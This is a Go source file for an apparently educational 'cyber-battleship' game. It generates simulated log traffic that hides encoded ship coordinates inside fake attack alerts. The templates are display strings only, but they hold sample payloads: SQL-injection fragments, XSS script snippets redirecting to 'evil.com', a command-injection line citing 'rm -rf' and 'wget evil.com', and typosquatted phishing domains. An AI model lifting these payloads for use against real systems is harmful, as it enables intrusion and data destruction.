package services

import (
	"fmt"
	"math/rand"
	"strings"
	"sync"
	"time"

	"cyber-battleship/models"
	"cyber-battleship/utils"
)

// ShipSource feeds the generator the ships currently eligible to leak.
type ShipSource interface {
	LeakCandidates() []models.Ship
}

// TrafficGenerator synthesizes one team's log feed: camouflage noise plus
// leak lines that smuggle an encoded ship coordinate inside an
// attack-flavored message.
type TrafficGenerator struct {
	mu         sync.Mutex
	source     ShipSource
	hintPhase  int // 1 explicit cipher label, 2 vague marker, 3 nothing
	lastShipID string
}

func NewTrafficGenerator(source ShipSource) *TrafficGenerator {
	return &TrafficGenerator{source: source, hintPhase: 1}
}

// SetHintPhase clamps to [1,3].
func (g *TrafficGenerator) SetHintPhase(phase int) {
	g.mu.Lock()
	defer g.mu.Unlock()
	if phase < 1 {
		phase = 1
	}
	if phase > 3 {
		phase = 3
	}
	g.hintPhase = phase
}

// GenerateMessage draws once against leakProbability and produces either a
// noise line or a leak. forced pins the cipher; pass the empty string to let
// the generator pick (and, in the final hint phase, occasionally layer two
// ciphers).
func (g *TrafficGenerator) GenerateMessage(leakProbability float64, forced utils.EncodingType) models.TrafficMessage {
	if rand.Float64() < leakProbability {
		return g.leakMessage(forced)
	}
	return g.noiseMessage()
}

func (g *TrafficGenerator) leakMessage(forced utils.EncodingType) models.TrafficMessage {
	candidates := g.source.LeakCandidates()
	if len(candidates) == 0 {
		return g.noiseMessage()
	}

	g.mu.Lock()
	ship := candidates[rand.Intn(len(candidates))]
	if len(candidates) > 1 {
		// Avoid leaking the same ship twice in a row.
		for ship.ID == g.lastShipID {
			ship = candidates[rand.Intn(len(candidates))]
		}
	}
	g.lastShipID = ship.ID
	hintPhase := g.hintPhase
	g.mu.Unlock()

	coordinate := fmt.Sprintf("%s%d", ship.Row, ship.Column)

	var encoded string
	var encoding utils.EncodingType
	if forced == "" && hintPhase == 3 && rand.Float64() < 0.25 {
		// Layered: two stacked ciphers; the reported type names only the last
		// layer so full decoding requires guessing there were two.
		var layers []utils.EncodingType
		encoded, layers = EncodeLayered(coordinate, 2)
		encoding = layers[len(layers)-1]
	} else {
		encoding = forced
		if encoding == "" {
			encoding = utils.AllEncodings[rand.Intn(len(utils.AllEncodings))]
		}
		encoded = utils.Encode(coordinate, encoding)
	}

	var hint string
	switch hintPhase {
	case 1:
		hint = fmt.Sprintf(" [%s]", strings.ToUpper(string(encoding)))
	case 2:
		hint = " (encoded)"
	}

	msg := leakTemplate(ship.AttackType, encoded, hint)
	msg.ContainsClue = true
	msg.EncodedData = encoded
	if hintPhase < 3 {
		msg.AttackType = ship.AttackType
		msg.EncodingType = string(encoding)
	}
	return msg
}

// EncodeLayered stacks ciphers chosen independently at random and reports
// them in application order.
func EncodeLayered(s string, layerCount int) (string, []utils.EncodingType) {
	layers := make([]utils.EncodingType, 0, layerCount)
	result := s
	for i := 0; i < layerCount; i++ {
		encoding := utils.AllEncodings[rand.Intn(len(utils.AllEncodings))]
		result = utils.Encode(result, encoding)
		layers = append(layers, encoding)
	}
	return result, layers
}

type noiseFamily struct {
	category models.TrafficCategory
	severity models.TrafficSeverity
	lines    []func() string
}

func static(s string) func() string { return func() string { return s } }

var noiseFamilies = []noiseFamily{
	{
		category: models.CategoryHTTP,
		severity: models.SeverityInfo,
		lines: []func() string{
			static("GET /api/products - 200 OK - 125ms"),
			static("POST /api/checkout - 201 Created - 89ms"),
			static("GET /images/logo.png - 304 Not Modified"),
			static("GET /api/users/profile - 200 OK - 56ms"),
			static("POST /api/comments - 200 OK - 143ms"),
			static("PUT /api/settings - 200 OK - 72ms"),
			static("GET /dashboard - 200 OK - User: john.doe"),
			static("GET /static/styles.css - 200 OK - 15ms"),
		},
	},
	{
		category: models.CategorySystem,
		severity: models.SeverityInfo,
		lines: []func() string{
			static("Backup completed successfully - 2.4GB archived"),
			static("Scheduled maintenance task completed"),
			static("Cache cleared - 1,245 entries removed"),
			static("System health check: All services operational"),
			static("Database optimization completed - 0.8s"),
			static("Log rotation completed - 15 files archived"),
			static("Certificate renewal check: Valid until 2027-03-15"),
			static("Session cleanup: 23 expired sessions removed"),
		},
	},
	{
		category: models.CategoryDatabase,
		severity: models.SeverityInfo,
		lines: []func() string{
			static(`Query executed: SELECT * FROM products WHERE category="electronics"`),
			static("Connection pool: 12/50 connections active"),
			static("Index optimization completed on users table"),
			static("Read query: SELECT name, email FROM customers LIMIT 100"),
			static("Transaction committed successfully - 0.023s"),
			static("Cache hit ratio: 94.2%"),
		},
	},
	{
		category: models.CategoryAuth,
		severity: models.SeverityInfo,
		lines: []func() string{
			func() string { return fmt.Sprintf("User jane.smith logged in from 192.168.1.%d", randInt(100, 200)) },
			func() string { return fmt.Sprintf("Successful login: admin from 192.168.1.%d", randInt(10, 50)) },
			static("User bob.jones accessed /dashboard"),
			static("Session created for user: alice.williams"),
			static("Password change successful for user: david.brown"),
			static("Two-factor authentication verified for user: emma.davis"),
		},
	},
	{
		category: models.CategoryFirewall,
		severity: models.SeverityInfo,
		lines: []func() string{
			func() string {
				return fmt.Sprintf("ALLOW: 192.168.1.%d -> 192.168.1.10:443 (HTTPS)", randInt(10, 200))
			},
			func() string { return fmt.Sprintf("ALLOW: 10.0.1.%d -> 192.168.1.20:80 (HTTP)", randInt(1, 100)) },
			static("Rule #5 applied: Allow internal network traffic"),
			func() string {
				return fmt.Sprintf("ALLOW: 192.168.1.%d -> 192.168.1.30:22 (SSH) - Authenticated", randInt(10, 200))
			},
		},
	},
	{
		category: models.CategoryEmail,
		severity: models.SeverityInfo,
		lines: []func() string{
			static("Email sent to customer@example.com - Order confirmation"),
			static("Received: Newsletter subscription from user@domain.com"),
			static("Email delivered: Monthly report to team@company.com"),
			static("Spam filter: 12 messages blocked"),
			static("Email queue: 5 messages pending delivery"),
		},
	},
}

func (g *TrafficGenerator) noiseMessage() models.TrafficMessage {
	family := noiseFamilies[rand.Intn(len(noiseFamilies))]
	line := family.lines[rand.Intn(len(family.lines))]()

	return models.TrafficMessage{
		Timestamp: time.Now().UTC().Format(time.RFC3339),
		Severity:  family.severity,
		Category:  family.category,
		Message:   line,
	}
}

type leakVariant struct {
	severity models.TrafficSeverity
	category models.TrafficCategory
	message  string
}

// leakTemplate wraps the encoded coordinate in a log line flavored for the
// ship's attack type. Each family has several phrasings with randomized
// realistic fields.
func leakTemplate(attackType models.AttackType, encoded, hint string) models.TrafficMessage {
	var variants []leakVariant
	sourceIP := ""

	switch attackType {
	case models.AttackSQLInjection:
		variants = []leakVariant{
			{models.SeverityError, models.CategoryDatabase,
				fmt.Sprintf("SQL syntax error near '%s'%s - Query rejected", encoded, hint)},
			{models.SeverityWarn, models.CategoryDatabase,
				fmt.Sprintf("Suspicious SQL pattern detected: SELECT * FROM users WHERE id='%s'%s OR '1'='1'", encoded, hint)},
			{models.SeverityAlert, models.CategoryDatabase,
				fmt.Sprintf("SQL injection attempt blocked - Malicious payload: %s%s", encoded, hint)},
			{models.SeverityError, models.CategoryHTTP,
				fmt.Sprintf("POST /api/login - SQL injection detected in parameter: username='admin' UNION SELECT %s%s", encoded, hint)},
		}
	case models.AttackXSS:
		variants = []leakVariant{
			{models.SeverityWarn, models.CategoryHTTP,
				fmt.Sprintf("XSS attempt detected: <script>alert('%s'%s)</script>", encoded, hint)},
			{models.SeverityAlert, models.CategoryHTTP,
				fmt.Sprintf("Malicious script blocked in search query: <img src=x onerror='leak:%s%s'>", encoded, hint)},
			{models.SeverityError, models.CategoryHTTP,
				fmt.Sprintf("Sanitizer triggered: Removed <script>window.location='evil.com/%s%s'</script>", encoded, hint)},
			{models.SeverityWarn, models.CategoryHTTP,
				fmt.Sprintf("GET /search?q=<svg/onload=alert('%s%s')> - XSS blocked", encoded, hint)},
		}
	case models.AttackPortScan:
		sourceIP = fmt.Sprintf("203.0.%d.%d", randInt(100, 255), randInt(1, 255))
		ports := []int{22, 80, 443, 3306, 8080, 21, 23, 3389}
		port := ports[rand.Intn(len(ports))]
		variants = []leakVariant{
			{models.SeverityAlert, models.CategoryFirewall,
				fmt.Sprintf("Port scan detected from IP: %s - Target: %s%s", sourceIP, encoded, hint)},
			{models.SeverityWarn, models.CategoryFirewall,
				fmt.Sprintf("BLOCK: %s -> Port %d - Rapid connection attempts from location %s%s", sourceIP, port, encoded, hint)},
			{models.SeverityAlert, models.CategoryFirewall,
				fmt.Sprintf("Suspicious activity: %s probing ports 22, 80, 443 from zone %s%s", sourceIP, encoded, hint)},
			{models.SeverityError, models.CategoryFirewall,
				fmt.Sprintf("IDS Alert: Network scan detected - Source identifier: %s%s", encoded, hint)},
		}
	case models.AttackBruteForce:
		sourceIP = fmt.Sprintf("10.0.%d.%d", randInt(1, 255), randInt(1, 255))
		attempts := randInt(20, 100)
		variants = []leakVariant{
			{models.SeverityAlert, models.CategoryAuth,
				fmt.Sprintf("Failed login attempt #%d from IP: %s - Account: %s%s", attempts, sourceIP, encoded, hint)},
			{models.SeverityError, models.CategoryAuth,
				fmt.Sprintf("Brute force attack detected: %d failed attempts from location %s%s", attempts, encoded, hint)},
			{models.SeverityWarn, models.CategoryAuth,
				fmt.Sprintf("Account lockout triggered for suspicious activity at %s%s - IP: %s", encoded, hint, sourceIP)},
			{models.SeverityAlert, models.CategoryAuth,
				fmt.Sprintf("Password spray attack detected from coordinates %s%s - %d accounts targeted", encoded, hint, attempts)},
		}
	case models.AttackPhishing:
		domains := []string{
			"paypa1.com", "microsooft.com", "goog1e.com", "arnaz0n.com",
			"bank-verify.net", "account-security.biz", "urgent-action.info",
		}
		domain := domains[rand.Intn(len(domains))]
		variants = []leakVariant{
			{models.SeverityWarn, models.CategoryEmail,
				fmt.Sprintf("Suspicious email from ceo@comp4ny.com - Link: %s/verify/%s%s", domain, encoded, hint)},
			{models.SeverityAlert, models.CategoryEmail,
				fmt.Sprintf("Phishing attempt detected - Email contains link to %s/%s%s", domain, encoded, hint)},
			{models.SeverityError, models.CategoryEmail,
				fmt.Sprintf(`Blocked phishing email: "URGENT: Verify your account at evil-site.com/%s%s"`, encoded, hint)},
			{models.SeverityWarn, models.CategoryEmail,
				fmt.Sprintf("Social engineering attempt: Email contains credential harvesting link - ID: %s%s", encoded, hint)},
		}
	case models.AttackDDoS:
		reqPerSec := randInt(5000, 50000)
		botnetSize := randInt(100, 5000)
		variants = []leakVariant{
			{models.SeverityAlert, models.CategoryFirewall,
				fmt.Sprintf("DDoS detected: %d req/sec from botnet - Attack signature: %s%s", reqPerSec, encoded, hint)},
			{models.SeverityError, models.CategorySystem,
				fmt.Sprintf("Server overload! Traffic spike from %d IPs - Botnet ID: %s%s", botnetSize, encoded, hint)},
			{models.SeverityAlert, models.CategoryFirewall,
				fmt.Sprintf("CRITICAL: Rate limit exceeded by 1000x - DDoS source cluster: %s%s", encoded, hint)},
		}
	case models.AttackMITM:
		variants = []leakVariant{
			{models.SeverityAlert, models.CategorySystem,
				fmt.Sprintf("SSL Certificate mismatch detected - Potential MITM from endpoint: %s%s", encoded, hint)},
			{models.SeverityError, models.CategorySystem,
				fmt.Sprintf("ARP spoofing detected! Duplicate gateway MAC - Attacker location: %s%s", encoded, hint)},
			{models.SeverityWarn, models.CategorySystem,
				fmt.Sprintf("TLS downgrade attack attempt from proxy node %s%s", encoded, hint)},
		}
	case models.AttackCommandInjection:
		variants = []leakVariant{
			{models.SeverityAlert, models.CategorySystem,
				fmt.Sprintf("Command injection detected: exec('rm -rf'); from input field %s%s", encoded, hint)},
			{models.SeverityError, models.CategoryHTTP,
				fmt.Sprintf("Shell command blocked: wget evil.com; payload origin: %s%s", encoded, hint)},
			{models.SeverityAlert, models.CategorySystem,
				fmt.Sprintf("CRITICAL: Unauthorized process execution attempt from zone %s%s", encoded, hint)},
		}
	case models.AttackRansomware:
		filesEncrypted := randInt(100, 10000)
		variants = []leakVariant{
			{models.SeverityAlert, models.CategorySystem,
				fmt.Sprintf("RANSOMWARE ALERT: %d files encrypted - Malware signature: %s%s", filesEncrypted, encoded, hint)},
			{models.SeverityError, models.CategorySystem,
				fmt.Sprintf("Mass file modification detected (.locked extension) - Origin host: %s%s", encoded, hint)},
			{models.SeverityAlert, models.CategoryEmail,
				fmt.Sprintf("Suspicious attachment executed - Encryption process started from %s%s", encoded, hint)},
		}
	case models.AttackSessionHijacking:
		variants = []leakVariant{
			{models.SeverityWarn, models.CategoryAuth,
				fmt.Sprintf("Session cookie theft detected - Stolen token from endpoint: %s%s", encoded, hint)},
			{models.SeverityError, models.CategoryAuth,
				fmt.Sprintf("Simultaneous login from 2 locations - Session hijack from %s%s", encoded, hint)},
			{models.SeverityAlert, models.CategoryAuth,
				fmt.Sprintf("XSS-based session steal attempt - Attacker harvesting cookies at %s%s", encoded, hint)},
		}
	default:
		variants = []leakVariant{
			{models.SeverityAlert, models.CategorySystem,
				fmt.Sprintf("Anomalous traffic pattern - Signature: %s%s", encoded, hint)},
		}
	}

	variant := variants[rand.Intn(len(variants))]
	return models.TrafficMessage{
		Timestamp: time.Now().UTC().Format(time.RFC3339),
		Severity:  variant.severity,
		Category:  variant.category,
		SourceIP:  sourceIP,
		Message:   variant.message,
	}
}

func randInt(min, max int) int {
	return min + rand.Intn(max-min+1)
}
